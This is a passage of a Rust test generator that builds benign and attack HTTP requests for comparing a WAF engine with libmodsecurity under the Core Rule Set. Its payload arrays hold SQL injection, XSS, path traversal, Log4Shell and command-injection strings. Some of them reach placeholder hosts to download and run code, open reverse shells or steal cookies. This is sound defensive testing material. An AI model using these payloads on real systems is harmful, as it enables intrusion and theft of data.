//! Deterministic request sample for the CRS differential test (our engine vs libmodsecurity).
//!
//! About half of the requests are benign traffic (browsing, forms, JSON APIs, XML/SOAP, uploads,
//! cookies, varied clients) and half carry an attack payload of one CRS family, placed in one
//! part of the request (path, query, form, JSON, XML, multipart field or filename, cookie, header)
//! and encoded one of several ways. The aim is breadth: as many distinct CRS rules as possible
//! should be exercised so that disagreements between the engines show up. The payload fragments
//! are written here from general knowledge of each attack family, not taken from a corpus.
//!
//! `write_bin` writes the length-prefixed layout read by `bench/modsec/crs_driver.c` (the layout
//! of `bench/modsec/convert.py`), and `to_http` the same request as raw HTTP/1.1 bytes, so both
//! engines see identical requests.

use std::io::{self, Write};
use std::path::Path;

/// One generated request. `headers` are sent as is, plus `Content-Length` when the body is
/// non-empty and no such header is present (same rule as `convert.py`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SampleRequest {
    /// Unique id: `<index>-<benign|attack family>-<kind or placement>`.
    pub id: String,
    /// Request method (`GET`, `POST`, ...).
    pub method: String,
    /// Request target (path and query) as sent on the request line.
    pub target: String,
    /// Header fields in sending order; values never contain CR or LF.
    pub headers: Vec<(String, String)>,
    /// Request body, possibly empty.
    pub body: Vec<u8>,
}

impl SampleRequest {
    /// True when the request was generated with an attack payload (from its id).
    pub fn is_attack(&self) -> bool {
        !self.id.contains("-benign-")
    }
}

/// SplitMix64: tiny, deterministic across platforms, good enough for sampling.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`).
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a, T: ?Sized>(&mut self, items: &[&'a T]) -> &'a T {
        items[self.below(items.len())]
    }

    fn chance(&mut self, percent: usize) -> bool {
        self.below(100) < percent
    }
}

/// Generates `n` requests deterministically from `seed`: even positions benign, odd ones attacks
/// (so exactly half and half), each drawn from the sub-generators below.
pub fn generate(n: usize, seed: u64) -> Vec<SampleRequest> {
    let mut rng = Rng(seed ^ 0x5a17_5eed_c0de_d00d);
    (0..n)
        .map(|i| {
            if i % 2 == 0 {
                benign(&mut rng, i)
            } else {
                attack(&mut rng, i)
            }
        })
        .collect()
}

/// The header list as sent: the request's headers plus `Content-Length` when needed.
fn wire_headers(req: &SampleRequest) -> Vec<(&str, String)> {
    let mut out: Vec<(&str, String)> = req
        .headers
        .iter()
        .map(|(k, v)| (k.as_str(), v.clone()))
        .collect();
    let has_cl = req
        .headers
        .iter()
        .any(|(k, _)| k.eq_ignore_ascii_case("content-length"));
    if !req.body.is_empty() && !has_cl {
        out.push(("Content-Length", req.body.len().to_string()));
    }
    out
}

fn put(out: &mut Vec<u8>, bytes: &[u8]) -> io::Result<()> {
    let len = u32::try_from(bytes.len())
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidInput, "field longer than 4 GiB"))?;
    out.extend_from_slice(&len.to_le_bytes());
    out.extend_from_slice(bytes);
    Ok(())
}

/// Writes the requests in the driver's length-prefixed format (u32 little-endian lengths): id,
/// class (`attack`/`benign`), client ip, method, uri, header count, (name, value) pairs, body.
pub fn write_bin(reqs: &[SampleRequest], path: &Path) -> io::Result<()> {
    let mut out = Vec::new();
    for r in reqs {
        put(&mut out, r.id.as_bytes())?;
        put(&mut out, if r.is_attack() { b"attack" } else { b"benign" })?;
        put(&mut out, b"192.0.2.1")?;
        put(&mut out, r.method.as_bytes())?;
        put(&mut out, r.target.as_bytes())?;
        let headers = wire_headers(r);
        out.extend_from_slice(&(headers.len() as u32).to_le_bytes());
        for (k, v) in &headers {
            put(&mut out, k.as_bytes())?;
            put(&mut out, v.as_bytes())?;
        }
        put(&mut out, &r.body)?;
    }
    let mut f = std::fs::File::create(path)?;
    f.write_all(&out)?;
    f.flush()
}

/// The raw HTTP/1.1 request: request line, headers (with `Content-Length` added when the body is
/// non-empty), blank line, body.
pub fn to_http(req: &SampleRequest) -> Vec<u8> {
    let mut out = Vec::with_capacity(128 + req.target.len() + req.body.len());
    out.extend_from_slice(req.method.as_bytes());
    out.push(b' ');
    out.extend_from_slice(req.target.as_bytes());
    out.extend_from_slice(b" HTTP/1.1\r\n");
    for (k, v) in wire_headers(req) {
        out.extend_from_slice(k.as_bytes());
        out.extend_from_slice(b": ");
        out.extend_from_slice(v.as_bytes());
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"\r\n");
    out.extend_from_slice(&req.body);
    out
}

// ---------------------------------------------------------------------------------------------
// Building blocks shared by benign and attack requests

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) \
     Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like \
     Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
     Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "okhttp/4.12.0",
    "MyShopApp/3.2.1 (iOS 17.4; iPhone15,2)",
    "python-requests/2.31.0",
    "curl/8.5.0",
];

const ACCEPTS: &[&str] = &[
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "application/json",
    "application/json, text/plain, */*",
    "*/*",
    "image/avif,image/webp,image/apng,image/*,*/*;q=0.8",
    "text/css,*/*;q=0.1",
];

const LANGS: &[&str] = &[
    "en-US,en;q=0.9",
    "de-DE,de;q=0.8,en;q=0.5",
    "fr-FR",
    "es-419,es;q=0.9",
    "ja",
];

const HOSTS: &[&str] = &[
    "www.example.com",
    "shop.example.com",
    "api.example.com",
    "example.org",
];

const WORDS: &[&str] = &[
    "red shoes",
    "how to bake bread",
    "O'Brien",
    "c++ tutorial",
    "50% off",
    "caf\u{e9} au lait",
    "select a size",
    "rock & roll",
    "2024 tax form",
    "new york",
    "where is my order?",
    "union station",
    "drop-down menu",
    "\u{65e5}\u{672c}\u{8a9e}",
];

const NAMES: &[&str] = &[
    "alice", "bob", "carol", "dave", "eve", "mallory", "trent", "peggy",
];

/// Percent-encodes for a query/form value: unreserved characters stay, space becomes `+` when
/// `plus` is set, everything else `%XX`.
fn form_encode(s: &str, plus: bool) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for &b in s.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                out.push(b as char)
            }
            b' ' if plus => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn base_headers(rng: &mut Rng, host: &str) -> Vec<(String, String)> {
    let mut h = vec![
        ("Host".to_string(), host.to_string()),
        ("User-Agent".to_string(), rng.pick(USER_AGENTS).to_string()),
        ("Accept".to_string(), rng.pick(ACCEPTS).to_string()),
    ];
    if rng.chance(70) {
        h.push(("Accept-Language".into(), rng.pick(LANGS).into()));
    }
    if rng.chance(70) {
        h.push(("Accept-Encoding".into(), "gzip, deflate, br".into()));
    }
    if rng.chance(40) {
        h.push((
            "Referer".into(),
            format!("https://{host}/{}", rng.pick(&["", "cart", "blog/"])),
        ));
    }
    if rng.chance(45) {
        h.push(("Cookie".into(), benign_cookie(rng)));
    }
    if rng.chance(15) {
        h.push(("Cache-Control".into(), "no-cache".into()));
    }
    if rng.chance(10) {
        h.push(("X-Requested-With".into(), "XMLHttpRequest".into()));
    }
    h
}

fn benign_cookie(rng: &mut Rng) -> String {
    let mut parts = vec![format!("session={:016x}", rng.next())];
    if rng.chance(50) {
        parts.push(format!(
            "_ga=GA1.2.{}.{}",
            rng.below(1 << 30),
            1_700_000_000 + rng.below(9999)
        ));
    }
    if rng.chance(40) {
        parts.push(format!("theme={}", rng.pick(&["dark", "light"])));
    }
    if rng.chance(30) {
        parts.push("consent=%7B%22ads%22%3Afalse%7D".into());
    }
    parts.join("; ")
}

fn benign_query(rng: &mut Rng) -> String {
    let mut q = Vec::new();
    for _ in 0..1 + rng.below(4) {
        let p = match rng.below(12) {
            0 => format!("q={}", form_encode(rng.pick(WORDS), rng.chance(50))),
            1 => format!("page={}", 1 + rng.below(40)),
            2 => format!("sort={}", rng.pick(&["price_asc", "newest", "rating-desc"])),
            3 => "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale".into(),
            4 => format!("ids={},{},{}", rng.below(99), rng.below(99), rng.below(99)),
            5 => format!("filter%5Bcolor%5D={}", rng.pick(&["red", "blue", "green"])),
            6 => format!("date=2024-0{}-1{}", 1 + rng.below(9), rng.below(10)),
            7 => format!("email={}%40example.com", rng.pick(NAMES)),
            8 => "redirect=%2Faccount%2Forders".into(),
            9 => format!(
                "callback=jQuery3510{}_{}",
                rng.below(99999),
                rng.below(99999)
            ),
            10 => format!("lang={}", rng.pick(&["en-US", "de", "pt-BR"])),
            _ => format!("token={:x}", rng.next()),
        };
        q.push(p);
    }
    q.join("&")
}

fn benign_path(rng: &mut Rng) -> String {
    match rng.below(10) {
        0 => "/".into(),
        1 => format!("/products/{}", rng.below(100_000)),
        2 => format!(
            "/blog/2024/0{}/{}",
            1 + rng.below(9),
            rng.pick(&["spring-sale", "new-shop", "faq"])
        ),
        3 => format!("/static/css/main.{:08x}.css", rng.next() as u32),
        4 => format!(
            "/images/{}.{}",
            rng.pick(&["logo", "banner", "hero-2x"]),
            rng.pick(&["png", "jpg", "webp", "svg"])
        ),
        5 => format!("/api/v1/users/{}", rng.below(10_000)),
        6 => "/search".into(),
        7 => "/account/settings".into(),
        8 => "/docs/getting-started.html".into(),
        _ => "/index.php".into(),
    }
}

fn json_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

const BOUNDARY: &str = "----WebKitFormBoundaryPq7Xk2mB9zR4";

/// A multipart/form-data body with text fields and one file part.
fn multipart(fields: &[(&str, &str)], file: Option<(&str, &str, &[u8])>) -> Vec<u8> {
    let mut b = Vec::new();
    for (name, value) in fields {
        b.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        b.extend_from_slice(
            format!("Content-Disposition: form-data; name=\"{name}\"\r\n\r\n").as_bytes(),
        );
        b.extend_from_slice(value.as_bytes());
        b.extend_from_slice(b"\r\n");
    }
    if let Some((filename, ctype, content)) = file {
        b.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        b.extend_from_slice(
            format!(
                "Content-Disposition: form-data; name=\"upload\"; filename=\"{filename}\"\r\n\
                 Content-Type: {ctype}\r\n\r\n"
            )
            .as_bytes(),
        );
        b.extend_from_slice(content);
        b.extend_from_slice(b"\r\n");
    }
    b.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    b
}

fn multipart_type() -> String {
    format!("multipart/form-data; boundary={BOUNDARY}")
}

fn soap(inner: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\
         <soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\
         <soap:Body><m:GetPrice xmlns:m=\"https://example.com/prices\">{inner}</m:GetPrice>\
         </soap:Body></soap:Envelope>"
    )
}

// ---------------------------------------------------------------------------------------------
// Benign traffic

fn benign(rng: &mut Rng, i: usize) -> SampleRequest {
    let host = rng.pick(HOSTS).to_string();
    let mut headers = base_headers(rng, &host);
    let (kind, method, target, body): (&str, &str, String, Vec<u8>) = match rng.below(9) {
        0 | 1 => {
            let p = benign_path(rng);
            let t = if rng.chance(60) {
                format!("{p}?{}", benign_query(rng))
            } else {
                p
            };
            ("browse", "GET", t, Vec::new())
        }
        2 => {
            let body = match rng.below(3) {
                0 => format!(
                    "username={}&password={}&remember=on",
                    rng.pick(NAMES),
                    form_encode(&format!("Spring{}!x", rng.below(9999)), true)
                ),
                1 => format!(
                    "name={}&email={}%40example.com&message={}",
                    form_encode("Anna-Lena M\u{fc}ller", true),
                    rng.pick(NAMES),
                    form_encode(
                        "Hi, I'd like to return order #4711 (wrong size). Thanks!",
                        true
                    )
                ),
                _ => format!("q={}&category=all", form_encode(rng.pick(WORDS), true)),
            };
            headers.push((
                "Content-Type".into(),
                "application/x-www-form-urlencoded".into(),
            ));
            (
                "form",
                "POST",
                rng.pick(&["/login", "/contact", "/search"]).into(),
                body.into_bytes(),
            )
        }
        3 | 4 => {
            let body = match rng.below(4) {
                0 => format!(
                    "{{\"user\":{{\"name\":{},\"email\":\"{}@example.com\",\"age\":{},\
                     \"tags\":[\"vip\",\"newsletter\"]}},\"active\":true,\"score\":4.5}}",
                    json_string(rng.pick(NAMES)),
                    rng.pick(NAMES),
                    18 + rng.below(60)
                ),
                1 => format!(
                    "{{\"items\":[{{\"sku\":\"A-{}\",\"qty\":{}}},{{\"sku\":\"B-7\",\"qty\":1}}],\
                     \"coupon\":null,\"note\":{}}}",
                    rng.below(9999),
                    1 + rng.below(5),
                    json_string(rng.pick(WORDS))
                ),
                2 => format!(
                    "{{\"query\":\"query {{ user(id: {}) {{ name email orders {{ id total }} }} }}\
                     \"}}",
                    rng.below(999)
                ),
                _ => "[1,2,3,{\"nested\":{\"deep\":[true,false,\"x\"]}}]".into(),
            };
            headers.push(("Content-Type".into(), "application/json".into()));
            let method = rng.pick(&["POST", "POST", "PUT", "PATCH"]);
            (
                "json",
                method,
                format!("/api/v1/orders/{}", rng.below(9999)),
                body.into_bytes(),
            )
        }
        5 => {
            let body = if rng.chance(60) {
                soap(&format!("<m:Item>{}</m:Item>", xml_escape(rng.pick(WORDS))))
            } else {
                format!(
                    "<?xml version=\"1.0\"?><order id=\"{}\"><item qty=\"2\">Widget &amp; \
                     Co</item><comment><![CDATA[deliver after 5pm]]></comment></order>",
                    rng.below(9999)
                )
            };
            let ct = rng.pick(&[
                "text/xml; charset=utf-8",
                "application/xml",
                "application/soap+xml",
            ]);
            headers.push(("Content-Type".into(), ct.into()));
            ("xml", "POST", "/ws/prices".into(), body.into_bytes())
        }
        6 => {
            let (name, ctype, content): (&str, &str, &[u8]) = match rng.below(3) {
                0 => (
                    "holiday photo.jpg",
                    "image/jpeg",
                    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01",
                ),
                1 => (
                    "report-2024.pdf",
                    "application/pdf",
                    b"%PDF-1.7\n1 0 obj\n<< >>\nendobj\n",
                ),
                _ => (
                    "notes.txt",
                    "text/plain",
                    b"Meeting at 10, bring the slides.\n",
                ),
            };
            let body = multipart(
                &[("title", "My upload"), ("album", "Summer 2024")],
                Some((name, ctype, content)),
            );
            headers.push(("Content-Type".into(), multipart_type()));
            ("upload", "POST", "/upload".into(), body)
        }
        7 => {
            let m = rng.pick(&["HEAD", "OPTIONS", "DELETE", "GET"]);
            (
                "method",
                m,
                format!("/api/v1/items/{}", rng.below(999)),
                Vec::new(),
            )
        }
        _ => {
            // conditional / ranged asset fetch
            headers.push((
                "If-None-Match".into(),
                format!("\"{:x}\"", rng.next() as u32),
            ));
            if rng.chance(50) {
                headers.push(("Range".into(), "bytes=0-1023".into()));
            }
            (
                "asset",
                "GET",
                format!("/static/js/app.{:08x}.js", rng.next() as u32),
                Vec::new(),
            )
        }
    };
    SampleRequest {
        id: format!("{i:05}-benign-{kind}"),
        method: method.into(),
        target,
        headers,
        body,
    }
}

// ---------------------------------------------------------------------------------------------
// Attacks: payload fragments per family

const SQLI: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT null,version(),user()--",
    "admin'--",
    "1; DROP TABLE users",
    "' AND SLEEP(5)#",
    "1' AND extractvalue(1,concat(0x7e,(select user())))-- -",
    "1) or benchmark(10000000,md5(1))#",
    "'; exec master..xp_cmdshell 'dir'--",
    "1' waitfor delay '0:0:5'--",
    "1/*!50000union*/ /*!50000select*/ 1,2,3",
    "' || pg_sleep(5)--",
    "1' ORDER BY 3--+",
    "1 and @@version>0",
    "' having 1=1--",
    "1' union select table_name from information_schema.tables--",
    "' or ''='",
    "1 procedure analyse()",
    "' union select load_file('/etc/passwd')--",
    "x' into outfile '/var/www/x.php'--",
    "1' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from \
     information_schema.tables group by x)a)--",
    "1 AND CASE WHEN (1=1) THEN 1 ELSE 0 END",
    "1' and substring(@@version,1,1)='5",
    "admin\" or 1=1--",
    "1;select pg_read_file('postgresql.conf')",
    "';shutdown--",
    "1 or 1 like 1",
    "' or 'a' regexp 'a",
    "sleep(3)",
    "1' and ascii(mid((select password from users limit 1),1,1))>64--",
    "@@datadir",
    "4294967296",
    "[$ne]=1",
    "{\"$where\": \"sleep(100)\"}",
    "'; merge into users using dual on (1=1) when matched then update set role='admin'--",
    "1; execute immediate 'select 1 from dual'",
    "0x61646d696e",
    "1 and if(1=1,sleep(5),0)",
    "1; select sleep(5)",
    "x'; select benchmark(1000000,sha1(1))--",
    "1' and 1=convert(int,(select top 1 name from sysobjects))--",
];

const XSS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=alert`1`>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><body onload=prompt(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "';alert(String.fromCharCode(88,83,83))//",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<p style=\"width:expression(alert(1))\">",
    "<isindex action=javascript:alert(1) type=image>",
    "vbscript:msgbox(1)",
    "<link rel=import href=//evil.example/x.html>",
    "<base href=//evil.example/>",
    "\" onmouseover=\"alert(1)",
    "<x onpointerenter=alert(1)>hover</x>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "<embed src=//evil.example/x.swf>",
    "{{constructor.constructor('alert(1)')()}}",
    "<details open ontoggle=confirm(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<applet code=Evil.class>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<video><source onerror=\"alert(1)\">",
    "window['al'+'ert'](1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "<v:rect style=\"behavior:url(#default#VML)\" onclick=alert(1)>",
    "<img src=\"x\" dynsrc=\"javascript:alert(1)\">",
    "<x:vmlframe src=\"//evil.example/x.vml#xss\">",
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<meta charset=\"utf-7\">",
    "str_rot13(highlight_file('index.php'))",
];

const LFI: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "....//....//....//etc/hosts",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "%2e%2e/%2e%2e/%2e%2e/boot.ini",
    "file:///etc/passwd",
    "../../var/log/apache2/access.log",
    "/.htaccess",
    "../WEB-INF/web.xml",
    "/.git/config",
    "../../.env",
    "/etc/issue",
    "..%c0%af..%c0%afetc/passwd",
    "c:\\windows\\system32\\drivers\\etc\\hosts",
    "/.ssh/id_rsa",
];

const RFI: &[&str] = &[
    "http://203.0.113.5/shell.txt?",
    "https://evil.example/c99.php?",
    "ftp://198.51.100.7/payload.txt",
    "http://evil.example/r57.txt%00",
    "http://192.0.2.44/x",
    "https://attacker.example.net/inc/config.php",
    "HTTP://198.51.100.9:8080/b.txt??",
];

const RCE_UNIX: &[&str] = &[
    ";cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(uname -a)",
    "&& wget http://203.0.113.5/sh -O /tmp/s",
    "; nc -e /bin/sh 198.51.100.1 4444",
    "|| curl -s http://evil.example/x|bash",
    "; ls -la /",
    "() { :; }; /bin/bash -c 'id'",
    ";${IFS}cat${IFS}/etc/passwd",
    "; python -c 'import os;os.system(\"id\")'",
    "; c'a't /e't'c/pa's's'wd",
    "; /???/c?t /etc/passwd",
    "| bash -i >& /dev/tcp/198.51.100.1/4444 0>&1",
    "; echo cm0gLXJmIC8= | base64 -d | sh",
    "; chmod 777 /tmp/x; /tmp/x",
    "$(perl -e 'print 1')",
    "; ping -c 3 127.0.0.1",
];

const RCE_WIN: &[&str] = &[
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "; powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "& cmd.exe /c whoami",
    "| net user hacker P@ss /add",
    "powershell.exe -NoP -W Hidden Invoke-WebRequest -Uri http://evil.example/a.ps1",
    "; Get-ChildItem C:\\Users",
    "& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
    "& %COMSPEC% /c ver",
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p')",
    "| systeminfo",
    "& reg query HKLM\\Software",
    "& for /f %i in ('dir /b') do type %i",
    "| if exist c:\\boot.ini echo yes",
];

const PHP: &[&str] = &[
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "phpinfo()",
    "assert(base64_decode('cGhwaW5mbygpOw=='))",
    "${@print(md5(31337))}",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "$_SERVER['HTTP_HOST']",
    "file_get_contents('/etc/passwd')",
    "preg_replace('/.*/e','system(\"id\")','')",
    "allow_url_include=1",
    "call_user_func('system','id')",
    "eval(chr(115).chr(121))",
    "<?= `id` ?>",
    "expect://id",
    "zip://uploads/a.zip#shell.php",
    "phar://uploads/x.jpg/test",
    "$GLOBALS['x']",
    "fopen('x','w')",
    "AUTO_PREPEND_FILE=php://input",
];

const JAVA: &[&str] = &[
    "${jndi:ldap://198.51.100.2:1389/a}",
    "${${lower:j}ndi:${lower:r}mi://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/x}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('i\
     d'))}",
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "${env:AWS_SECRET_ACCESS_KEY}",
    "java.lang.System.getProperty(\"user.home\")",
    "<java><object class=\"java.lang.ProcessBuilder\"><array \
     class=\"java.lang.String\"></array></object></java>",
];

const NODE: &[&str] = &[
    "require('child_process').exec('id')",
    "process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "__proto__[isAdmin]=true",
    "constructor.prototype.polluted=1",
    "_$$ND_FUNC$$_function(){require('child_process').exec('ls')}()",
    "new Function('return process')()",
    "this.constructor.constructor('return process')().exit()",
    "{\"__proto__\":{\"admin\":true}}",
    "res.end(require('fs').readdirSync('.').toString())",
    "eval(Buffer.from('cmVxdWlyZQ==','base64').toString())",
];

const SESSION: &[&str] = &[
    "document.cookie=\"sessionid=1234; expires=Fri, 31 Dec 2099 23:59:59 GMT; \
     domain=.example.com\"",
    "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=abcdef123\">",
    "x.cookie = 'PHPSESSID=deadbeef; domain=example.com'",
];

const PROTOCOL: &[&str] = &[
    "x\r\nSet-Cookie: injected=1",
    "foo\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>",
    "x\nGET /admin HTTP/1.1\nHost: internal",
    "a\r\nLocation: http://evil.example/",
    "\r\nX-Injected: yes",
    "bar\nPOST /transfer HTTP/1.0\nContent-Type: text/plain",
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "x)(|(objectClass=*)",
];

const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
    "Fuzz Faster U Fool v2.1.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Nuclei",
    "Arachni/v1.5.1",
    "w3af.org",
    "libwww-perl/6.67",
    "Python-urllib/3.11",
    "WinHttp.WinHttpRequest.5",
    "ZmEu",
    "morfeus fucking scanner",
    "Havij",
    "Mozilla/4.0 (compatible; MSIE 6.0; Win32)",
    "() { :; }; echo; /bin/cat /etc/passwd",
    "80legs crawler",
    "BlackWidow",
];

/// Where a payload is placed in the request.
#[derive(Clone, Copy)]
enum Place {
    Path,
    Query,
    QueryName,
    Form,
    Json,
    Xml,
    MultipartField,
    MultipartFilename,
    Cookie,
    Header,
}

const PLACES: &[Place] = &[
    Place::Path,
    Place::Query,
    Place::Query,
    Place::Query,
    Place::QueryName,
    Place::Form,
    Place::Form,
    Place::Json,
    Place::Json,
    Place::Xml,
    Place::MultipartField,
    Place::MultipartFilename,
    Place::Cookie,
    Place::Header,
];

fn place_name(p: Place) -> &'static str {
    match p {
        Place::Path => "path",
        Place::Query => "query",
        Place::QueryName => "qname",
        Place::Form => "form",
        Place::Json => "json",
        Place::Xml => "xml",
        Place::MultipartField => "mpfield",
        Place::MultipartFilename => "mpfile",
        Place::Cookie => "cookie",
        Place::Header => "header",
    }
}

/// Payload-level obfuscation applied before placing (text in, text out).
fn obfuscate(rng: &mut Rng, family: &str, s: &str) -> (String, &'static str) {
    match rng.below(8) {
        0 => {
            // mixed case of letters
            let s = s
                .chars()
                .map(|c| {
                    if rng.chance(50) {
                        c.to_ascii_uppercase()
                    } else {
                        c.to_ascii_lowercase()
                    }
                })
                .collect();
            (s, "case")
        }
        1 if family == "sqli" => (s.replace(' ', "/**/"), "comment"),
        2 => {
            let ws = rng.pick(&["\t", "\n", "  ", "\u{b}", "\u{c}"]);
            (s.replace(' ', ws), "ws")
        }
        3 if family == "xss" || family == "session" => {
            // HTML entities for some characters
            let mut out = String::new();
            for c in s.chars() {
                match (c, rng.below(3)) {
                    ('<', 0) => out.push_str("&lt;"),
                    ('(', 0) => out.push_str("&#40;"),
                    ('a'..='z', 0) => out.push_str(&format!("&#x{:x};", c as u32)),
                    _ => out.push(c),
                }
            }
            (out, "entity")
        }
        _ => (s.to_string(), "plain"),
    }
}

/// How text is percent-encoded into a URL or form context.
fn url_encode(rng: &mut Rng, s: &str) -> (String, &'static str) {
    match rng.below(6) {
        // only what would break the structure: space, &, =, #, %, +, ?, controls, non-ASCII
        0 | 1 => {
            let mut out = String::new();
            for &b in s.as_bytes() {
                if b <= b' ' || b >= 0x7f || b"&=#%+?".contains(&b) {
                    out.push_str(&format!("%{b:02X}"));
                } else {
                    out.push(b as char);
                }
            }
            (out, "min")
        }
        2 => (form_encode(s, true), "plus"),
        3 => (form_encode(s, false).replace('%', "%25"), "double"),
        4 => {
            // %uXXXX for non-alphanumerics (IIS style)
            let mut out = String::new();
            for &b in s.as_bytes() {
                if b.is_ascii_alphanumeric() {
                    out.push(b as char);
                } else if b < 0x80 && b > b' ' && rng.chance(50) {
                    out.push_str(&format!("%u00{b:02X}"));
                } else {
                    out.push_str(&format!("%{b:02X}"));
                }
            }
            (out, "u")
        }
        _ => (form_encode(s, false), "pct"),
    }
}

/// Makes a string safe as a header value: CR/LF and other controls percent-encoded.
fn header_safe(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        if (c as u32) < 0x20 && c != '\t' || c == '\u{7f}' {
            out.push_str(&format!("%{:02X}", c as u32));
        } else {
            out.push(c);
        }
    }
    out
}

const PARAMS: &[&str] = &[
    "id", "q", "file", "page", "cmd", "url", "name", "search", "lang", "include", "redirect",
    "data",
];

fn attack(rng: &mut Rng, i: usize) -> SampleRequest {
